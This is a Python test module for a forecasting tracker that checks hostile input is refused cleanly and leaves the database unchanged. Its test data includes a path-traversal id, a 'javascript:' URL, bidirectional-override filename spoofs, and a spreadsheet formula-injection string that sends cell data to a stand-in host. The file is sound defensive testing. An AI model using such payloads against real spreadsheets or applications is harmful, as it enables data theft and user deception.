"""Hostile input: every bad value gets a clear error and leaves the database exactly as it was.

'Clear' means one of our TrackerError types with one short line naming the problem (see
`assert_clear`); 'as it was' means the export, the row count of every table (the audit trail
included) and every account's login state are unchanged (see `snapshot`). The cases go through
the same path an edge takes: raw data → `parse(Model, data)` → service; a few hand the service a
model built with `model_construct` to show the service checks again on its own.
"""

import copy
import csv
import io
import json
import math
from collections.abc import Callable
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.reliability.helpers import JSON_VALUE, assert_clear, json_paths, snapshot
from tests.support import question_data
from tracker import interchange
from tracker.errors import InvalidInput, TrackerError, parse
from tracker.schemas import (
    Actor,
    ForecastCreate,
    QuestionCreate,
    QuestionEdit,
    Resolution,
    UserCreate,
)
from tracker.services import forecasts, questions, sessions, users
from tracker.text import check_text

SYSTEM = Actor.system()
NAN, INF = float("nan"), float("inf")
RLO = "\u202e"  # right-to-left override: makes 'exe.txt' display as 'txt.exe'
DEAL = {"Nuclear only": 0.5, "Nuclear and missiles": 0.2, "No agreement": 0.3}
HYPOTHESIS = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture
def w(world, admin, alice, viewer):  # type: ignore[no-untyped-def]
    return SimpleNamespace(db=world, admin=admin, alice=alice, viewer=viewer)


def forecast(w, data: dict) -> None:  # type: ignore[no-untyped-def]
    forecasts.log_forecast(w.db, w.alice, parse(ForecastCreate, data))


def yes_no(yes: object, no: object, qid: str = "us-strike") -> dict:
    return {"question_id": qid, "probabilities": {"Yes": yes, "No": no}}


def unchecked(qid: str, probabilities: dict) -> ForecastCreate:
    """A model an edge forgot to validate: the service must still refuse it."""
    return ForecastCreate.model_construct(
        question_id=qid, probabilities=probabilities, rationale="", session_id=None
    )


def new_question(w, **fields) -> None:  # type: ignore[no-untyped-def]
    base = question_data(id="new-q").model_dump(mode="json")
    questions.create_question(w.db, w.admin, parse(QuestionCreate, base | fields))


Case = tuple[str, Callable, str]

FORECAST_CASES: list[Case] = [
    ("nan", lambda w: forecast(w, yes_no(NAN, 0.5)), "finite"),
    ("plus-inf", lambda w: forecast(w, yes_no(INF, 0.0)), "finite"),
    ("minus-inf", lambda w: forecast(w, yes_no(-INF, 1.0)), "finite"),
    (
        "nan-past-the-edge",
        lambda w: forecasts.log_forecast(w.db, w.alice, unchecked("us-strike", {"Yes": NAN})),
        "missing",
    ),
    (
        "inf-past-the-edge",
        lambda w: forecasts.log_forecast(
            w.db, w.alice, unchecked("us-strike", {"Yes": INF, "No": -INF})
        ),
        "finite",
    ),
    ("negative", lambda w: forecast(w, yes_no(-0.1, 1.1)), "between 0 and 1"),
    ("above-one", lambda w: forecast(w, yes_no(1.5, -0.5)), "between 0 and 1"),
    ("huge", lambda w: forecast(w, yes_no(1e308, 0)), "between 0 and 1"),
    ("sum-below-one", lambda w: forecast(w, yes_no(0.5, 0.4)), "sum to 1"),
    ("sum-just-above-tolerance", lambda w: forecast(w, yes_no(0.5, 0.50001)), "sum to 1"),
    ("bool", lambda w: forecast(w, yes_no(True, False)), "must be a number"),
    ("string", lambda w: forecast(w, yes_no("0.3", "0.7")), "must be a number"),
    ("null", lambda w: forecast(w, yes_no(None, 1.0)), "number"),
    (
        "unknown-option",
        lambda w: forecast(
            w, {"question_id": "us-strike", "probabilities": {"Yes": 1, "Maybe": 0}}
        ),
        "unknown option",
    ),
    (
        "ten-thousand-unknown-options",
        lambda w: forecast(
            w,
            {
                "question_id": "us-strike",
                "probabilities": {f"opt{i}" * 50: 0.0 for i in range(10_000)} | {"Yes": 1.0},
            },
        ),
        "unknown option.*and 9995 more",
    ),
    (
        "missing-option",
        lambda w: forecast(
            w, {"question_id": "deal-scope", "probabilities": {"Nuclear only": 1.0}}
        ),
        "missing probability",
    ),
    (
        "empty-vector",
        lambda w: forecast(w, {"question_id": "us-strike", "probabilities": {}}),
        "missing",
    ),
    ("closed-question", lambda w: forecast(w, yes_no(0.5, 0.5, "closed-q")), "closed"),
    ("resolved-question", lambda w: forecast(w, yes_no(0.5, 0.5, "resolved-q")), "resolved"),
    ("annulled-question", lambda w: forecast(w, yes_no(0.5, 0.5, "annulled-q")), "annulled"),
    ("upcoming-question", lambda w: forecast(w, yes_no(0.5, 0.5, "upcoming-q")), "upcoming"),
    ("unknown-question", lambda w: forecast(w, yes_no(0.5, 0.5, "nope")), "no question"),
    ("enormous-question-id", lambda w: forecast(w, yes_no(0.5, 0.5, "q" * 100_000)), "at most 100"),
    (
        "enormous-rationale",
        lambda w: forecast(w, yes_no(0.5, 0.5) | {"rationale": "x" * 10_001}),
        "too long",
    ),
    (
        "megabyte-rationale",
        lambda w: forecast(w, yes_no(0.5, 0.5) | {"rationale": "word " * 200_000}),
        "too long",
    ),
    (
        "bidi-rationale",
        lambda w: forecast(w, yes_no(0.5, 0.5) | {"rationale": f"see {RLO}fdp.exe"}),
        "bidirectional",
    ),
    (
        "nul-in-rationale",
        lambda w: forecast(w, yes_no(0.5, 0.5) | {"rationale": "a\x00b"}),
        "control",
    ),
    (
        "escape-sequence-in-rationale",
        lambda w: forecast(w, yes_no(0.5, 0.5) | {"rationale": "\x1b[2Jcleared"}),
        "control",
    ),
    ("unknown-session", lambda w: forecast(w, yes_no(0.5, 0.5) | {"session_id": 999}), "session"),
    ("bool-p-yes", lambda w: forecasts.binary_vector(True), "finite number"),
    ("nan-p-yes", lambda w: forecasts.binary_vector(NAN), "finite number"),
]

QUESTION_CASES: list[Case] = [
    ("enormous-title", lambda w: new_question(w, title="t" * 501), "too long"),
    ("bidi-title", lambda w: new_question(w, title=f"Will {RLO}naI strike?"), "bidirectional"),
    ("newline-in-title", lambda w: new_question(w, title="one\ntwo"), "control"),
    ("zero-width-in-title", lambda w: new_question(w, title="Ir\u200ban"), "control"),
    ("blank-title", lambda w: new_question(w, title=" \t "), "must not be empty|control"),
    ("enormous-description", lambda w: new_question(w, description="d" * 20_001), "too long"),
    (
        "enormous-criteria",
        lambda w: new_question(w, resolution_criteria="c" * 1_000_000),
        "too long",
    ),
    (
        "duplicate-options",
        lambda w: new_question(w, type="multiple_choice", options=["A", "a"]),
        "unique",
    ),
    (
        "reserved-option",
        lambda w: new_question(w, type="multiple_choice", options=["A", "Annulled"]),
        "reserved",
    ),
    (
        "too-many-options",
        lambda w: new_question(w, type="ordered", options=[str(i) for i in range(51)]),
        "at most 50",
    ),
    (
        "bidi-option",
        lambda w: new_question(w, type="multiple_choice", options=["A", f"B{RLO}"]),
        "bidirectional",
    ),
    ("one-option", lambda w: new_question(w, type="multiple_choice", options=["A"]), "at least 2"),
    (
        "binary-with-maybe",
        lambda w: new_question(w, options=["Yes", "No", "Maybe"]),
        "exactly the options",
    ),
    (
        "window-backwards",
        lambda w: new_question(w, close_time="2026-01-01T00:00:00Z"),
        "after open_time",
    ),
    ("path-id", lambda w: new_question(w, id="../../etc/passwd"), "lower-case"),
    ("upper-case-id", lambda w: new_question(w, id="US-Strike"), "lower-case"),
    ("enormous-id", lambda w: new_question(w, id="a" * 101), "lower-case"),
    ("duplicate-id", lambda w: new_question(w, id="us-strike"), "already exists"),
    ("naive-time", lambda w: new_question(w, open_time="2026-02-06T00:00:00"), "timezone"),
    (
        "time-out-of-range",
        lambda w: new_question(w, open_time="0001-01-01T00:00:00+01:00"),
        "out of the supported range",
    ),
    ("not-a-time", lambda w: new_question(w, close_time="next year"), "close_time"),
    ("enormous-tag", lambda w: new_question(w, tags=["t" * 51]), "too long"),
    ("too-many-tags", lambda w: new_question(w, tags=[f"t{i}" for i in range(21)]), "at most 20"),
    (
        "javascript-source",
        lambda w: new_question(w, sources=[{"title": "x", "url": "javascript:alert(1)"}]),
        "http",
    ),
    (
        "bidi-source-url",
        lambda w: new_question(w, sources=[{"title": "x", "url": f"https://e.org/{RLO}gpj.exe"}]),
        "bidirectional",
    ),
    (
        "enormous-source-url",
        lambda w: new_question(w, sources=[{"title": "x", "url": "https://e.org/" + "a" * 2001}]),
        "too long",
    ),
    (
        "edit-bidi-title",
        lambda w: questions.edit_question(
            w.db, w.admin, "us-strike", parse(QuestionEdit, {"title": f"x{RLO}y"})
        ),
        "bidirectional",
    ),
    (
        "edit-window-backwards",
        lambda w: questions.edit_question(
            w.db, w.admin, "us-strike", parse(QuestionEdit, {"close_time": "2026-01-01T00:00:00Z"})
        ),
        "after open_time",
    ),
    (
        "edit-options-after-forecasts",
        lambda w: questions.edit_question(
            w.db, w.admin, "deal-scope", parse(QuestionEdit, {"options": ["A", "B"]})
        ),
        "options cannot change",
    ),
    (
        "resolve-unknown-option",
        lambda w: questions.resolve_question(
            w.db, w.admin, "us-strike", Resolution(option="Maybe")
        ),
        "not an option",
    ),
    (
        "resolve-enormous-option",
        lambda w: questions.resolve_question(
            w.db, w.admin, "us-strike", parse(Resolution, {"option": "Y" * 100_000})
        ),
        "too long",
    ),
    (
        "resolve-twice",
        lambda w: questions.resolve_question(w.db, w.admin, "resolved-q", Resolution(option="No")),
        "already resolved",
    ),
    (
        "resolve-annulled",
        lambda w: questions.resolve_question(w.db, w.admin, "annulled-q", Resolution(option="No")),
        "already annulled",
    ),
    (
        "resolve-in-the-future",
        lambda w: questions.resolve_question(
            w.db,
            w.admin,
            "us-strike",
            parse(Resolution, {"option": "Yes", "resolved_time": "2027-01-01T00:00:00Z"}),
        ),
        "future",
    ),
    (
        "resolve-before-open",
        lambda w: questions.resolve_question(
            w.db,
            w.admin,
            "us-strike",
            parse(Resolution, {"option": "Yes", "resolved_time": "2020-01-01T00:00:00Z"}),
        ),
        "before the question opened",
    ),
    (
        "resolve-and-annul",
        lambda w: parse(Resolution, {"option": "Yes", "annul": True}),
        "either an option or annul",
    ),
    (
        "resolution-note-with-nul",
        lambda w: parse(Resolution, {"annul": True, "note": "a\x00b"}),
        "control",
    ),
    (
        "session-bidi-title",
        lambda w: sessions.create_session(
            w.db,
            w.alice,
            parse(
                sessions.SessionCreate,
                {"title": f"x{RLO}", "question_ids": ["us-strike"], "participants": ["alice"]},
            ),
        ),
        "bidirectional",
    ),
    (
        "session-on-closed-question",
        lambda w: sessions.create_session(
            w.db,
            w.alice,
            sessions.SessionCreate(title="s", question_ids=["closed-q"], participants=["alice"]),
        ),
        "not open",
    ),
    (
        "session-question-twice",
        lambda w: sessions.create_session(
            w.db,
            w.alice,
            sessions.SessionCreate(
                title="s", question_ids=["us-strike", "us-strike"], participants=["alice"]
            ),
        ),
        "listed twice",
    ),
]

USER_CASES: list[Case] = [
    ("name-with-space", lambda w: parse(UserCreate, {"name": "bob smith"}), "must be 1-64"),
    ("name-too-long", lambda w: parse(UserCreate, {"name": "b" * 65}), "must be 1-64"),
    ("name-bidi", lambda w: parse(UserCreate, {"name": f"bob{RLO}"}), "must be 1-64"),
    ("name-path", lambda w: parse(UserCreate, {"name": "../admin"}), "must be 1-64"),
    ("name-empty", lambda w: parse(UserCreate, {"name": ""}), "must be 1-64"),
    (
        "display-name-bidi",
        lambda w: parse(UserCreate, {"name": "bob", "display_name": f"Bob {RLO}nimda"}),
        "bidirectional",
    ),
    ("password-short", lambda w: parse(UserCreate, {"name": "bob", "password": "short"}), "8"),
    (
        "password-enormous",
        lambda w: parse(UserCreate, {"name": "bob", "password": "p" * 1025}),
        "too long",
    ),
    ("role-unknown", lambda w: parse(UserCreate, {"name": "bob", "role": "root"}), "role"),
    (
        "duplicate-user",
        lambda w: users.create_user(w.db, w.admin, UserCreate(name="alice")),
        "already exists",
    ),
    (
        "set-short-password",
        lambda w: users.set_password(w.db, w.admin, "alice", "short"),
        "at least 8",
    ),
    (
        "set-password-unknown-user",
        lambda w: users.set_password(w.db, w.admin, "ghost", "long enough"),
        "no user",
    ),
]


@pytest.mark.parametrize(
    ("action", "message"),
    [pytest.param(action, message, id=name) for name, action, message in FORECAST_CASES],
)
def test_bad_forecasts_are_refused_clearly_and_change_nothing(w, action, message):
    before = snapshot(w.db)
    with pytest.raises(TrackerError) as error:
        action(w)
    assert_clear(error, message)
    assert snapshot(w.db) == before


@pytest.mark.parametrize(
    ("action", "message"),
    [pytest.param(action, message, id=name) for name, action, message in QUESTION_CASES],
)
def test_bad_questions_and_resolutions_are_refused_clearly_and_change_nothing(w, action, message):
    before = snapshot(w.db)
    with pytest.raises(TrackerError) as error:
        action(w)
    assert_clear(error, message)
    assert snapshot(w.db) == before


@pytest.mark.parametrize(
    ("action", "message"),
    [pytest.param(action, message, id=name) for name, action, message in USER_CASES],
)
def test_bad_accounts_are_refused_clearly_and_change_nothing(w, action, message):
    before = snapshot(w.db)
    with pytest.raises(TrackerError) as error:
        action(w)
    assert_clear(error, message)
    assert snapshot(w.db) == before


# ---------------------------------------------------------------- the importer


def valid_document() -> dict:
    return {
        "format": "forecast-tracker/1",
        "questions": [
            {
                "id": "imported",
                "title": "An imported question",
                "type": "binary",
                "open_time": "2026-03-01T00:00:00Z",
                "close_time": "2027-03-01T00:00:00Z",
                "resolution": None,
                "resolved_time": None,
                "tags": [],
            },
            {
                "id": "imported-done",
                "title": "An imported, resolved question",
                "type": "ordered",
                "options": ["0", "1-2", "3+"],
                "open_time": "2026-03-01T00:00:00Z",
                "close_time": "2026-10-01T00:00:00Z",
                "resolution": "1-2",
                "resolved_time": "2026-09-01T00:00:00Z",
                "tags": ["talks"],
            },
        ],
        "forecasts": [
            {
                "question_id": "imported",
                "user": "carol",
                "time": "2026-04-01T09:00:00Z",
                "probability": 0.25,
                "rationale": "base rate",
            },
            {
                "question_id": "imported-done",
                "user": "alice",
                "time": "2026-05-01T09:00:00Z",
                "probabilities": {"0": 0.2, "1-2": 0.5, "3+": 0.3},
            },
        ],
    }


def forecast_row(**fields) -> Callable[[dict], None]:  # type: ignore[no-untyped-def]
    return lambda d: d["forecasts"][0].update(fields)


def question_row(index: int = 0, **fields) -> Callable[[dict], None]:  # type: ignore[no-untyped-def]
    return lambda d: d["questions"][index].update(fields)


def append(key: str, row: object) -> Callable[[dict], None]:
    return lambda d: d[key].append(copy.deepcopy(row))


IMPORT_CASES: list[tuple[str, Callable[[dict], None], str]] = [
    ("nan", forecast_row(probability=NAN), r"forecasts\[0\].*finite"),
    ("inf", forecast_row(probability=INF), r"forecasts\[0\].*finite"),
    ("negative", forecast_row(probability=-0.2), r"forecasts\[0\].*between 0 and 1"),
    ("above-one", forecast_row(probability=1.2), r"forecasts\[0\].*between 0 and 1"),
    ("bool", forecast_row(probability=True), r"forecasts\[0\].*must be a number"),
    ("string", forecast_row(probability="0.3"), r"forecasts\[0\].*must be a number"),
    (
        "sum-not-one",
        lambda d: d["forecasts"][1]["probabilities"].update({"3+": 0.9}),
        r"forecasts\[1\].*sum to 1",
    ),
    (
        "unknown-option",
        lambda d: d["forecasts"][1]["probabilities"].update({"7+": 0.0}),
        r"forecasts\[1\].*unknown option",
    ),
    (
        "both-forms",
        forecast_row(probabilities={"Yes": 0.25, "No": 0.75}),
        r"forecasts\[0\].*not both",
    ),
    (
        "p-on-multi-option",
        lambda d: d["forecasts"][1].update(probability=0.5, probabilities=None),
        r"forecasts\[1\].*only for binary",
    ),
    ("no-vector", forecast_row(probability=None), r"forecasts\[0\].*needs 'probabilities'"),
    (
        "before-open",
        forecast_row(time="2026-02-01T00:00:00Z"),
        r"forecasts\[0\].*before the question opened",
    ),
    (
        "after-resolution",
        lambda d: d["forecasts"][1].update(time="2026-09-02T00:00:00Z"),
        r"forecasts\[1\].*after the question closed or resolved",
    ),
    (
        "exactly-at-close",
        lambda d: d["forecasts"][1].update(time="2026-09-01T00:00:00Z"),
        r"forecasts\[1\].*after the question closed",
    ),
    ("in-the-future", forecast_row(time="2027-01-01T00:00:00Z"), r"forecasts\[0\].*future"),
    ("naive-time", forecast_row(time="2026-04-01T09:00:00"), r"forecasts\[0\].*timezone"),
    (
        "time-out-of-range",
        forecast_row(time="0001-01-01T00:00:00+05:00"),
        r"forecasts\[0\].*out of the supported range",
    ),
    (
        "after-annulment-in-db",
        append(
            "forecasts",
            {
                "question_id": "annulled-q",
                "user": "alice",
                "time": "2026-11-22T12:00:00Z",
                "probability": 0.5,
            },
        ),
        r"forecasts\[2\].*after the question closed or resolved",
    ),
    (
        "after-close-in-db",
        append(
            "forecasts",
            {
                "question_id": "closed-q",
                "user": "alice",
                "time": "2026-11-01T00:00:00Z",
                "probability": 0.5,
            },
        ),
        r"forecasts\[2\].*after the question closed",
    ),
    ("unknown-question", forecast_row(question_id="nope"), r"forecasts\[0\].*no question"),
    ("bidi-user", forecast_row(user=f"carol{RLO}"), r"forecasts\[0\].*user"),
    ("path-user", forecast_row(user="../carol"), r"forecasts\[0\].*user"),
    ("enormous-rationale", forecast_row(rationale="r" * 10_001), r"forecasts\[0\].*too long"),
    ("bidi-rationale", forecast_row(rationale=f"x{RLO}y"), r"forecasts\[0\].*bidirectional"),
    ("enormous-title", question_row(title="t" * 100_000), r"questions\[0\].*too long"),
    ("control-title", question_row(title="bell\x07"), r"questions\[0\].*control"),
    (
        "note-with-nul",
        question_row(1, resolution_note="a\x00b"),
        r"questions\[1\].*resolution_note.*control",
    ),
    (
        "enormous-source",
        question_row(1, resolution_source="s" * 100_000),
        r"questions\[1\].*resolution_source.*too long",
    ),
    (
        "unknown-resolution",
        question_row(1, resolution="4"),
        r"questions\[1\].*resolution '4'",
    ),
    (
        "resolved-in-the-future",
        question_row(1, resolved_time="2027-01-01T00:00:00Z"),
        r"questions\[1\].*future",
    ),
    (
        "time-without-resolution",
        question_row(0, resolved_time="2026-09-01T00:00:00Z"),
        r"questions\[0\].*resolution is null",
    ),
    (
        "duplicate-question-id",
        lambda d: d["questions"].append(copy.deepcopy(d["questions"][0])),
        r"questions\[2\]: duplicate id 'imported'",
    ),
    (
        "duplicate-forecast",
        lambda d: d["forecasts"].append(copy.deepcopy(d["forecasts"][0])),
        r"forecasts\[2\].*duplicate of forecasts\[0\]",
    ),
    (
        "clashes-with-stored-question",
        question_row(id="us-strike"),
        r"questions\[0\].*already exists with a different",
    ),
    ("questions-not-a-list", lambda d: d.update(questions={"a": 1}), "'questions' must be a list"),
    ("row-not-an-object", lambda d: d["forecasts"].insert(0, "alice 0.3"), r"forecasts\[0\]"),
    ("unknown-field", forecast_row(weight=2), r"forecasts\[0\].*weight"),
    ("unknown-top-level", lambda d: d.update(extra=[]), "unknown top-level key"),
    ("no-format", lambda d: d.pop("format"), "'format' must be"),
]


@pytest.mark.parametrize(
    ("mutate", "message"),
    [pytest.param(mutate, message, id=name) for name, mutate, message in IMPORT_CASES],
)
def test_a_bad_row_fails_the_whole_import_clearly_and_changes_nothing(w, mutate, message):
    document = valid_document()
    mutate(document)
    before = snapshot(w.db)
    with pytest.raises(TrackerError) as error:
        interchange.import_document(w.db, SYSTEM, document)
    assert_clear(error, message)
    assert snapshot(w.db) == before


def test_the_valid_document_used_above_does_import(w):
    summary = interchange.import_document(w.db, SYSTEM, valid_document())
    assert (summary.questions_added, summary.forecasts_added, summary.users_added) == (2, 2, 1)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        pytest.param('{"format": ', r"not valid JSON \(line 1, column", id="truncated"),
        pytest.param("", "not valid JSON", id="empty"),
        pytest.param(b"\xff\xfe\x00{", "not valid JSON", id="not-utf8"),
        pytest.param("[]", "JSON object", id="top-level-list"),
        pytest.param("null", "JSON object", id="null"),
        pytest.param("[" * 100_000 + "]" * 100_000, "nested too deeply", id="deep-nesting"),
        pytest.param('{"format": ' + "9" * 5000 + "}", "not valid JSON", id="huge-integer"),
        pytest.param('{"a": 1} trailing', "not valid JSON", id="trailing-garbage"),
        pytest.param(
            '{"format": "forecast-tracker/1", "forecasts": [{"question_id": "us-strike", '
            '"user": "alice", "time": "2026-04-01T00:00:00Z", "probability": NaN}]}',
            "finite",
            id="nan-literal",
        ),
        pytest.param(
            '{"format": "forecast-tracker/1", "forecasts": [{"question_id": "us-strike", '
            '"user": "alice", "time": "2026-04-01T00:00:00Z", "probability": 1e999}]}',
            "finite",
            id="overflowing-number",
        ),
    ],
)
def test_malformed_files_are_refused_clearly_and_change_nothing(w, text, message):
    before = snapshot(w.db)
    with pytest.raises(TrackerError) as error:
        interchange.import_text(w.db, SYSTEM, text)
    assert_clear(error, message)
    assert snapshot(w.db) == before


def test_csv_export_cannot_smuggle_spreadsheet_formulas_or_break_rows(w):
    """Free text that a spreadsheet would execute (=, +, -, @) is quoted; commas, quotes and
    line breaks inside a rationale stay inside one cell."""
    forecast(
        w,
        yes_no(0.4, 0.6)
        | {"rationale": '=HYPERLINK("https://evil.example/?"&A1, "click")\n"quoted", comma'},
    )
    rows = list(csv.DictReader(io.StringIO(interchange.export_forecasts_csv(w.db))))
    latest = [r for r in rows if r["question_id"] == "us-strike" and r["probability"] == "0.4"]
    assert len(latest) == 1
    assert latest[0]["rationale"].startswith("'=HYPERLINK(")
    assert latest[0]["rationale"].endswith('"quoted", comma')
    assert interchange.spreadsheet_safe("-2+3") == "'-2+3"
    assert interchange.spreadsheet_safe("Plain text") == "Plain text"


# ---------------------------------------------------------------- property-based


def _is_clean_single_line(text: str) -> bool:
    try:
        return check_text(text, max_length=500) == text
    except ValueError:
        return False


@HYPOTHESIS
@given(title=st.text(min_size=0, max_size=600))
def test_any_title_is_stored_exactly_as_checked_or_refused(w, title):
    """Whatever the text — controls, bidi marks, combining characters, surrogates' neighbours —
    the stored title is the checked, NFC-normalised one, or the create fails cleanly."""
    before = snapshot(w.db)
    try:
        created = questions.create_question(
            w.db,
            w.admin,
            parse(QuestionCreate, question_data(id="prop").model_dump() | {"title": title}),
        )
    except TrackerError as exc:
        assert len(str(exc)) <= 400
        assert snapshot(w.db) == before
        return
    try:
        assert _is_clean_single_line(created.title)
        assert questions.get_question(w.db, "prop").title == created.title
    finally:
        with w.db.write() as session:  # test clean-up only: services never delete questions
            from sqlmodel import delete

            from tracker.models import AuditEvent, Question, QuestionRevision

            session.exec(delete(QuestionRevision).where(QuestionRevision.question_id == "prop"))
            session.exec(delete(Question).where(Question.id == "prop"))
            session.exec(delete(AuditEvent).where(AuditEvent.entity_id == "prop"))


PROBABILITY = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True),
    st.floats(min_value=0.0, max_value=1.0),
    st.integers(min_value=-2, max_value=2),
    st.booleans(),
    st.none(),
    st.text(max_size=4),
)


@HYPOTHESIS
@given(
    vector=st.dictionaries(
        st.one_of(st.sampled_from(list(DEAL)), st.text(max_size=6)), PROBABILITY, max_size=5
    )
)
def test_any_vector_is_stored_as_a_valid_distribution_or_refused(w, vector):
    before = snapshot(w.db)
    try:
        saved = forecasts.log_forecast(
            w.db,
            w.alice,
            parse(ForecastCreate, {"question_id": "deal-scope", "probabilities": vector}),
        )
    except TrackerError as exc:
        assert len(str(exc)) <= 400
        assert snapshot(w.db) == before
        return
    stored = forecasts.get_forecast(w.db, saved.id).probabilities
    assert list(stored) == list(DEAL)
    assert all(0.0 <= p <= 1.0 for p in stored.values())
    assert math.fsum(stored.values()) == pytest.approx(1.0, abs=1e-12)
    assert all(abs(stored[o] - float(vector[o])) <= 2e-6 for o in DEAL)


@HYPOTHESIS
@given(data=st.data())
def test_a_corrupted_document_imports_whole_or_not_at_all(w, data):
    """Replace any part of a valid file with any JSON value: the import either succeeds or fails
    with a clear error and no trace; it never crashes with anything else."""
    document = valid_document()
    path = data.draw(st.sampled_from(json_paths(document)[1:]), label="path")
    replacement = data.draw(JSON_VALUE, label="replacement")
    node = document
    for step in path[:-1]:
        node = node[step]
    node[path[-1]] = replacement
    text = json.dumps(document)  # through the real parser, as `tracker import` does
    before = snapshot(w.db)
    try:
        interchange.import_text(w.db, SYSTEM, text)
    except TrackerError as exc:
        assert len(str(exc)) <= 400 and "\n" not in str(exc)
        assert snapshot(w.db) == before


def test_evidence_text_is_cleaned_and_an_enormous_one_refused(w, monkeypatch):
    """Evidence is other people's text: invisible and bidi characters are removed; an article
    over EVIDENCE_MAX_CHARS is refused with its size (one rule for paste, file, URL, feed and
    import), and nothing is stored."""
    from tracker.config import get_settings
    from tracker.services import evidence

    monkeypatch.setattr(get_settings(), "evidence_max_chars", 5_000)
    result = evidence.add_text(
        w.db, w.alice, title=f"Talks {RLO}resume\x00", text=f"Negotiators met again. {RLO}hidden"
    )
    assert RLO not in result.item.title and "\x00" not in result.item.title
    assert RLO not in result.item.text
    before = snapshot(w.db)
    with pytest.raises(InvalidInput, match="more than 10,000 characters long; an item holds"):
        evidence.add_text(w.db, w.alice, title="Huge", text="Negotiators met again. " * 50_000)
    assert snapshot(w.db) == before
    with pytest.raises(InvalidInput, match="empty"):
        evidence.add_text(w.db, w.alice, title="x", text=f"\x00{RLO}\u200b  ")
